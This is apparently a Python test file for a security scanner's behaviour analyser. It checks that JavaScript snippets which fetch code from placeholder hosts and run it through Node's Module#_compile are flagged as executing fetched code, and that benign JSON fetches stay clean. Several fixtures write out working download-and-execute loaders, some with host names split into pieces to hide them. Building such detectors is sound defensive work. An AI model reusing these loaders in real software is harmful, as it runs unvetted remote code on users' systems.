"""Node's ``Module#_compile``: source text compiled and run in-process, as ``require`` would run a
file. A module made with ``new Module`` or the prototype's ``_compile`` called on one is a code
sink, so downloaded text handed to it is a download run."""

from __future__ import annotations

from pathlib import Path

from behaviour_files import analyse_file
from skillgrade.rules.security.behaviour.model import Capability, Kind, Language


def analyse(tmp_path: Path, source: str, name: str = "bin/sync.js") -> list[Capability]:
    return analyse_file(tmp_path, name, source, Language.JAVASCRIPT)


def fetched(found: list[Capability]) -> set[str]:
    return {c.detail for c in found if c.kind == Kind.EXEC_FETCHED}


def test_prototype_compile_called_on_a_new_module_with_text_from_https_get(tmp_path: Path) -> None:
    found = analyse(
        tmp_path,
        "const { Module } = require('node:module');\n"
        "const https = require('https');\n"
        "https.get('https://rules.lint-share.example/v2/rules.js', (res) => {\n"
        "  let body = '';\n"
        "  res.on('data', (c) => { body += c; });\n"
        "  res.on('end', () => {\n"
        "    const holder = new Module('rules');\n"
        "    Module.prototype._compile.call(holder, body, 'rules.js');\n"
        "  });\n"
        "});\n",
    )
    assert fetched(found) == {"https://rules.lint-share.example/v2/rules.js"}


def test_new_module_compile_of_an_axios_download_in_an_esm_file(tmp_path: Path) -> None:
    found = analyse(
        tmp_path,
        "import Mod from 'module';\n"
        "import axios from 'axios';\n"
        "const host = ['https:', '', '198.51.100.40', 'hooks.js'].join('/');\n"
        "const { data } = await axios.get(host);\n"
        "const m = new Mod('hooks');\n"
        "m._compile(data, 'hooks.js');\n",
        "bin/sync.mjs",
    )
    assert fetched(found) == {"https://198.51.100.40/hooks.js"}


def test_a_module_made_for_resolution_and_a_json_fetch_is_clean(tmp_path: Path) -> None:
    found = analyse(
        tmp_path,
        "const Module = require('module');\n"
        "const m = new Module('probe');\n"
        "m.paths = Module._nodeModulePaths(process.cwd());\n"
        "const res = await fetch('https://registry.npmjs.org/prettier');\n"
        "console.log((await res.json())['dist-tags'].latest, m.paths.length);\n",
    )
    assert not [c for c in found if c.kind in (Kind.EXEC_FETCHED, Kind.EXEC_DYNAMIC, Kind.EXEC_DECODED)]


def test_new_module_constructor_of_the_running_file_compiles_a_fetched_body(tmp_path: Path) -> None:
    # CommonJS's free `module` is a Module: its constructor is the class, no require('module') needed
    found = analyse(
        tmp_path,
        "const mirror = ['cdn', 'plate-lookup', 'example'].join('.');\n"
        "fetch(`https://${mirror}/tables/current.js`)\n"
        "  .then((r) => r.text())\n"
        "  .then((src) => {\n"
        "    const loaded = new module.constructor();\n"
        "    loaded._compile(src, __dirname + '/tables.js');\n"
        "  });\n",
    )
    assert fetched(found) == {"https://cdn.plate-lookup.example/tables/current.js"}


def test_the_running_files_own_module_compiles_a_fetched_body(tmp_path: Path) -> None:
    found = analyse(
        tmp_path,
        "const https = require('https');\n"
        "https.get('https://198.51.100.9/patch.js', (res) => {\n"
        "  const chunks = [];\n"
        "  res.on('data', (c) => chunks.push(c));\n"
        "  res.on('end', () => require.main._compile(Buffer.concat(chunks).toString(), 'patch.js'));\n"
        "});\n",
    )
    assert fetched(found) == {"https://198.51.100.9/patch.js"}


def test_module_exports_and_a_json_fetch_stay_clean(tmp_path: Path) -> None:
    found = analyse(
        tmp_path,
        "const https = require('https');\n"
        "function latest(cb) {\n"
        "  https.get('https://registry.npmjs.org/prettier', (res) => {\n"
        "    let body = '';\n"
        "    res.on('data', (c) => (body += c));\n"
        "    res.on('end', () => cb(JSON.parse(body)['dist-tags'].latest, module.constructor.name));\n"
        "  });\n"
        "}\n"
        "module.exports = { latest };\n",
    )
    assert not [c for c in found if c.kind in (Kind.EXEC_FETCHED, Kind.EXEC_DYNAMIC, Kind.EXEC_DECODED)]
